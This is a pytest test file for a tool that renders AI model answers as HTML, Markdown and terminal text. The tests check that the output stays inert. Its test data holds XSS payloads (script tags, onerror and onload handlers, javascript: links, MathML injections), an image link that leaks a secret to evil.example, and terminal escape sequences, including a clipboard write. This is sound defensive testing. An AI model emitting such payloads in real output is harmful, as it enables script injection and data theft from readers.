"""What is shown and saved: complete, and harmless whatever a model says."""

from __future__ import annotations

import re
from decimal import Decimal
from html import escape, unescape
from html.parser import HTMLParser

import msgspec
import pytest
from markdown_it import MarkdownIt

from nbfuse.core.analysis import (
    Analysis,
    Contradiction,
    PartialCoverage,
    Quote,
    Stance,
    UniqueInsight,
)
from nbfuse.core.call import Usage
from nbfuse.core.clean import clean
from nbfuse.core.types import Answer, Failure, FusionResult, Position, Score, Verdict
from nbfuse.render.html import to_html
from nbfuse.render.markdown import harmless, to_markdown
from nbfuse.render.mathematics import MATHML_TAGS
from nbfuse.render.model import model_html
from nbfuse.render.sheet import sheet
from nbfuse.render.table import rows
from nbfuse.render.text import to_text

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![pixel](https://evil.example/p.png?q=secret)",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    '<button data-commandlinker-command="x">go</button>',
    "\\`<img src=x onerror=alert(1)>`",
    "``a`<img src=x onerror=alert(1)>`b``",
    "```\n<script>\n",
    "</details></div><h1>fake</h1>",
    '<a href="x" style="position:fixed">a</a>',
    "a | b\n--|--\n<svg onload=alert(1)> | c",
]
SAFE_TAGS = {
    *("div", "details", "summary", "strong", "small", "p", "table", "thead", "tbody", "tr", "th"),
    *("td", "em", "a", "code", "pre", "ul", "ol", "li", "h4", "h5", "h6", "br", "del", "s", "hr"),
    *("blockquote", "span"),
}


def result(text: str = "**42**", **more: object) -> FusionResult:
    usage = Usage(10, 20, cost=Decimal("0.0012"))
    return FusionResult(
        run="r",
        prompt="p",
        mode="best-of",
        text=text,
        verdict=Verdict(
            decided_by="judge",
            best="a",
            reason=f"a is right. {text}",
            scores=(Score(member="a", p_right=0.9),),
        ),
        answers=(
            Answer(member="a", spec="x:a", text=text, usage=usage, seconds=1.5),
            Answer(
                member="b",
                spec="x:b",
                text=text,
                status="partial",
                failure=Failure("StreamBrokenError", f"it broke: {text}", "again"),
            ),
            Answer(member="c", spec="x:c", status="failed", failure=Failure("AuthError", "no key")),
            Answer(member="d", spec="x:d", text="late", judged=False, usage=usage),
        ),
        judging=(Answer(member="j", spec="x:j", text="{}", usage=usage, seconds=0.5),),
        notes=(f"note {text}",),
        seconds=2.0,
        version="0.1.0",
        **more,
    )


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict]] = []
        self.depth = 0

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.found.append((tag, dict(attrs)))


def tags(html: str) -> list[tuple[str, dict]]:
    parser = Tags()
    parser.feed(html)
    return parser.found


def kinds_of(markdown: str) -> list[str]:
    def walk(tokens: list) -> list[str]:
        return [t.type for t in tokens] + [k for t in tokens for k in walk(t.children or [])]

    return walk(MarkdownIt("commonmark").enable("table").parse(markdown))


@pytest.mark.parametrize("text", HOSTILE)
def test_html_from_a_model_can_only_be_read(text: str) -> None:
    for tag, attributes in tags(to_html(result(text))):
        assert tag in SAFE_TAGS
        if tag not in ("td", "th") or set(attributes) - {"style", "scope"}:
            assert set(attributes) <= {"href", "title", "class", "open", "rel", "start", "style"}
            assert attributes.get("style") in (None, "overflow-wrap:break-word")
        assert attributes.get("href", "https:").startswith(("http:", "https:", "mailto:"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_model_can_not_leave_its_own_details(text: str) -> None:
    html = to_html(result(text))
    assert html.count("<details") == html.count("</details>") == 5
    assert html.endswith("</table>\n</div>")


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_from_a_model_holds_no_html_and_no_image(text: str) -> None:
    assert not {"html_block", "html_inline", "image"} & set(kinds_of(to_markdown(result(text))))


def test_harmless_markdown_is_left_as_it_is() -> None:
    text = "# Title\n\n`a < b` and\n\n```html\n<b>code</b>\n```\n\n- **x** < y"
    assert harmless(text) == text


def test_terminal_escapes_never_reach_a_terminal() -> None:
    evil = (
        "ok\x1b[2J\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x1b\\\x9b31m\u202egnp.exe\x08\x00 end\r\nnext"
    )
    assert clean(evil) == "okgnp.exe end\nnext"
    assert "\x1b" not in to_text(result(evil))
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", to_text(result(evil)))


def test_markdown_becomes_html_with_headings_below_the_notebooks_own() -> None:
    html = model_html("# Big\n\n**bold** `x<y`\n\n| a |\n|--|\n| 1 |\n\n```python\nprint(1)\n```")
    for expected in ("<h4>Big</h4>", "<strong>bold</strong>", "<code>x&lt;y</code>", "<td>1</td>"):
        assert expected in html
    assert '<code class="language-python">print(1)\n</code>' in html


def test_lines_of_a_model_stay_lines() -> None:
    assert model_html("one\ntwo") == "<p>one<br>\ntwo</p>\n"


def test_an_image_leaves_its_words_and_a_visible_link() -> None:
    html = model_html("![a cat](https://example.org/cat.png)")
    assert html.startswith('<p><a href="https://example.org/cat.png"')
    assert "a cat</a>" in html


@pytest.mark.parametrize(
    "math",
    [
        "$x_1 + y_2 * z * w$",
        r"$$\begin{pmatrix}1 & 2 \\ 3 & 4\end{pmatrix}$$",
        r"\(x^2 * y * z\)",
        r"\[ \int_0^1 f(x)\,dx \]",
        "$2^{10} = 1024$",
        "$2x + 3*y*z$",
        r"\begin{equation}x*y*z\end{equation}",
    ],
)
def test_mathematics_reaches_the_notebook_as_it_was_written(math: str) -> None:
    assert escape(math) in model_html(f"so {math} it is")


@pytest.mark.parametrize(
    "text", ["It costs $5 or *maybe* $10.", "`$x$` *is* code", "5 $ and *6* $"]
)
def test_money_is_no_mathematics(text: str) -> None:
    assert "<em>" in model_html(text)


def test_a_dollar_outside_of_mathematics_begins_no_formula() -> None:
    html = model_html(r"It costs $5 or $10, \$3 at most; $x_1$ and `$y$` stay.")
    assert html == (
        "<p>It costs <span>$</span>5 or <span>$</span>10, <span>$</span>3 at most; "
        "$x_1$ and <code>$y$</code> stay.</p>\n"
    )


@pytest.mark.parametrize(
    "formula",
    [
        "$$\na_1 = *b*\n+ c_1\n$$",
        "\\[\n- x_1 < y\n\n= z_2\n\\]",
        "\\begin{align*}\na_1 &= b \\\\\n# &= c_1\n\\end{align*}.",
    ],
)
def test_a_formula_of_several_lines_stays_whole(formula: str) -> None:
    assert model_html(f"so\n{formula}\nthen") == (
        f"<p>so</p>\n<p>{escape(formula, quote=False)}</p>\n<p>then</p>\n"
    )


def test_a_formula_without_an_end_is_text() -> None:
    html = model_html("$$ a\n\n*b*\n\n\\begin{align} x")
    assert "<em>b</em>" in html
    assert "$$" not in html


@pytest.mark.parametrize("text", ["[answer]: 42", "[Paris]: <The capital>", "[1]: Smith2020"])
def test_a_definition_is_not_taken_away(text: str) -> None:
    assert escape(text, quote=False) in model_html(text)


@pytest.mark.parametrize("piece", ["![", "$", "=", "\\(", "\\[\n", "$$\n", "[![a](b)](c)", "```\n"])
def test_no_text_takes_long_to_show(piece: str) -> None:
    text = "$1" + piece * (60_000 // len(piece))  # the limit of a test is its judge
    assert model_html(text)
    assert harmless(text)


def test_a_linked_image_is_one_link() -> None:
    html = model_html("[![a cat](https://example.org/cat.png)](https://example.org)")
    assert html.count("<a ") == 1
    assert '<a href="https://example.org" rel="noopener noreferrer">a cat</a>' in html


def test_a_dollar_before_code_takes_nothing_of_it() -> None:
    assert "<code>$x$</code>" in model_html("set $HOME and `$x$`, then go")


def test_a_dollar_of_our_own_begins_no_formula() -> None:
    html = to_html(result("x", pool="p"))
    assert "$0" not in html
    assert "<span>$</span>0.0012" in html


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("```python\nprint(1)", "x\n```\n<img src=x onerror=alert(1)>"),
        ("# see `x\u2028<img src=x onerror=alert(1)>`", ""),
        ("~~~~\ncode\n~~~", "<b>"),
        ("- item\n\n  ```\n  open", "x"),
        ("> ```\n> open", "x"),
    ],
)
def test_pieces_of_markdown_are_harmless_together(text: str, reason: str) -> None:
    whole = msgspec.structs.replace(
        result(text), verdict=Verdict(decided_by="judge", reason=reason)
    )
    document = to_markdown(whole)
    assert not {"html_block", "html_inline", "image"} & set(kinds_of(document))
    assert "table_open" in kinds_of(document)  # no open fence has swallowed the rest


@pytest.mark.parametrize("text", ["Say ```x``` aloud.", "```x```\nis code", "1. ```\n   a\n   ```"])
def test_markdown_that_is_closed_gets_no_fence(text: str) -> None:
    document = to_markdown(result(text))
    assert document.startswith(f"{text}\n\n")
    assert "table_open" in kinds_of(document)


def test_the_fused_answer_is_open_on_top_and_members_are_closed() -> None:
    html = to_html(result())
    details = [attributes for tag, attributes in tags(html) if tag == "details"]
    assert ["open" in attributes for attributes in details] == [True, False, False, False, False]
    assert html.index("Fused answer") < html.index("<summary>a ·")
    for nothing in ("<script", "<style", "id=", "color"):
        assert nothing not in html


def test_the_table_has_time_tokens_price_and_verdict() -> None:
    table = {row.model: row for row in rows(result())}
    assert table["a"] == ("a", "1.50 s", "20", "$0.0012", "best, P(right) 0.90")
    assert table["b"].price == "?"
    assert "it broke" in table["b"].verdict
    assert table["c"].price == "$0"
    assert table["d"].verdict == "late, not judged"
    assert table["j"].verdict == "judging, 1 call"
    assert table["all"].price == "?"  # b's price is unknown, so the sum is


def test_plain_text_begins_with_the_answer() -> None:
    text = to_text(result("42"))
    assert text.startswith("42\n\n")
    assert "[c]\n(no key)" in text


ANALYSIS = Analysis(
    consensus=("a city",),
    contradictions=(Contradiction("which", (Stance("a", "Paris"), Stance("b", "Rome"))),),
    partial_coverage=(PartialCoverage(("a",), "the river"),),
    unique_insights=(UniqueInsight("b", "the <b>hill</b>"),),
    blind_spots=("since when",),
    quotes=(Quote("contradictions", 0, "b", "It is Rome"), Quote("consensus", 0, "a", "a city")),
    unfound=2,
)


def test_an_analysis_is_read_with_who_says_it_in_which_words() -> None:
    analysed = msgspec.structs.replace(result("Paris"), analysis=ANALYSIS)
    html, markdown = to_html(analysed), to_markdown(analysed)
    for heading in ("All say", "They differ", "Only some say", "Only one saw", "Nobody covered"):
        assert f"<strong>{heading}</strong>" in html
        assert f"**{heading}**" in markdown
    assert "<li>b says Rome <em>“It is Rome”</em></li>" in html
    assert "  - b says Rome “It is Rome”" in markdown
    for form in (html, markdown):
        assert "2 quotes of the judge are not in the answers, and left out." in form
        assert "<b>hill" not in form.replace("\\<b>", "")


def test_in_the_live_view_formulas_are_drawn_and_code_is_coloured() -> None:
    html = model_html("$x^2$ and\n\n$$\n\\frac{a}{b}\n$$\n\n```python\nif x: # y\n```", live=True)
    assert '<math display="inline">' in html
    assert "<mfrac>" in html
    assert '<span class="k">if</span>' in html
    assert '<span class="c"># y</span>' in html
    assert "<math" not in model_html("$x^2$")  # the saved form leaves that to the notebook
    assert "\\frac{1}{" in model_html("$\\frac{1}{$", live=True)  # no formula: as it was written
    assert "x" in model_html("```no-such-language\nx\n```", live=True)


HOSTILE_FORMULAS = [
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{position:fixed}{x}$",
    r"$\text{</mtext><script>alert(1)</script>}$",
    '```"><script>alert(1)</script>\nx\n```',
]


@pytest.mark.parametrize("text", HOSTILE + HOSTILE_FORMULAS)
def test_hostile_text_is_harmless_in_the_live_view_too(text: str) -> None:
    for tag, attributes in tags(model_html(text, live=True)):
        assert tag in SAFE_TAGS | MATHML_TAGS
        if tag not in MATHML_TAGS:
            assert set(attributes) <= {"href", "title", "class", "rel", "start"}
        assert not set(attributes) & {"href", "style", "src"} or tag == "a"
        assert attributes.get("href", "https:").startswith(("http:", "https:", "mailto:"))


def test_how_an_answer_was_checked_stands_in_every_form() -> None:
    result = FusionResult(
        run="r",
        prompt="?",
        mode="merge",
        text="One.\n\nTwo.",
        verdict=Verdict(
            decided_by="merge",
            asked_twice=2,
            flips=1,
            form="sliding window",
            accuracy=0.84,
            accuracy_of=120,
        ),
        answers=(Answer(member="a<b>", spec="s", text="One."),),
        provenance=(("a<b>",), ()),
        positions=(Position(member="a<b>", before="1", after="1", why="It stands by it."),),
        minority=(Position(member="a<b>", before="1", after="*1*", case="<i>mine</i>"),),
    )
    for shown in (to_text(result), to_markdown(result), to_html(result)):
        plain = unescape(shown).replace("\\", "")
        assert "Compared 2 times in two opposite orders; 1 came out otherwise" in plain
        assert "sliding window" in plain
        assert "1 of 2 paragraphs have words of a member." in plain
        assert "Paragraph 2: the writer alone." in plain
        assert "does not follow: it says" in plain
        assert "right on 84% of 120 questions of yours" in plain
    assert "<b>" not in to_html(result)
    assert "<i>" not in to_html(result)
    told = sheet(result)
    assert told["checks"][0].startswith("Compared 2 times")
    assert told["positions"][1][0] == "a<b>"


def test_who_failed_opens_itself_where_nobody_answered() -> None:
    failure = Failure("AuthError", "No key for it.", "Set the key.")
    answer = Answer(member="a", spec="s", status="failed", failure=failure)
    result = FusionResult(
        run="r",
        prompt="?",
        mode="best-of",
        text="",
        verdict=Verdict(decided_by="nobody"),
        answers=(answer,),
        status="failed",
    )
    assert "<details open><summary>a" in to_html(result)
    assert "(No key for it. Set the key.)" in to_text(result)
